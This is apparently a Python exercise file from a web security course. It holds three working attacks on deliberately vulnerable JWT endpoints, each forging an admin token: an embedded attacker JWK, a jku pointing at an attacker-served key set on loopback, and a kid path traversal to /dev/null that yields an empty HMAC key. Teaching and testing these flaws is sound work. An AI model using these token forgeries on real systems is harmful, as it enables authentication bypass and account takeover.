"""Lesson 05, station 11: keys chosen by the token's header (jwk, jku, kid), against a fixed key ring."""

from __future__ import annotations

import hashlib
import hmac
import json

import jwt
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from course.lessons.third_party import ThirdPartySite

from ..auth import ALICE
from . import attack
from ._cookies import readings

TRAVERSAL_TO_DEV_NULL = "../" * 16 + "dev/null"


def _admin_claims(app) -> dict:
    """A real token's claims (all checks but the key pass on /jwt/me), with sub changed to admin."""
    token = app.test_client().post("/jwt/login", json=ALICE).json["access_token"]
    payload = token.split(".")[1]
    claims = json.loads(next(text for text in readings(payload) if text.startswith("{")))
    return {**claims, "sub": "admin"}


def _as_admin(app, target: str, token: str) -> bool:
    answer = app.test_client().get(target, headers={"Authorization": f"Bearer {token}"})
    return answer.status_code == 200 and answer.json.get("user") == "admin"


def _attacker_jwk(private_key: Ed25519PrivateKey, kid: str) -> dict:
    return {**json.loads(jwt.algorithms.OKPAlgorithm.to_jwk(private_key.public_key())), "kid": kid}


@attack("/vuln/jwt-header-keys/jwk")
def embed_your_own_key(app, target) -> bool:
    key = Ed25519PrivateKey.generate()
    headers = {"typ": "at+jwt", "kid": "attacker", "jwk": _attacker_jwk(key, "attacker")}
    return _as_admin(app, target, jwt.encode(_admin_claims(app), key, algorithm="EdDSA", headers=headers))


@attack("/vuln/jwt-header-keys/jku")
def point_jku_at_your_own_key_set(app, target) -> bool:
    key = Ed25519PrivateKey.generate()
    site = ThirdPartySite()  # the attacker's web server, on loopback
    try:
        jku = site.serve("/.well-known/jwks.json", {"keys": [_attacker_jwk(key, "attacker")]})
        token = jwt.encode(
            _admin_claims(app), key, algorithm="EdDSA", headers={"typ": "at+jwt", "kid": "attacker", "jku": jku}
        )
        return _as_admin(app, target, token)
    finally:
        site.stop()


@attack("/vuln/jwt-header-keys/kid")
def kid_names_dev_null(app, target) -> bool:
    """An HS256 token whose kid walks up to /dev/null: the key is empty, and the attacker knows it."""
    header = {"alg": "HS256", "typ": "at+jwt", "kid": TRAVERSAL_TO_DEV_NULL}
    signing_input = ".".join(
        jwt.utils.base64url_encode(json.dumps(part).encode()).decode() for part in (header, _admin_claims(app))
    )
    signature = jwt.utils.base64url_encode(hmac.new(b"", signing_input.encode(), hashlib.sha256).digest()).decode()
    return _as_admin(app, target, f"{signing_input}.{signature}")
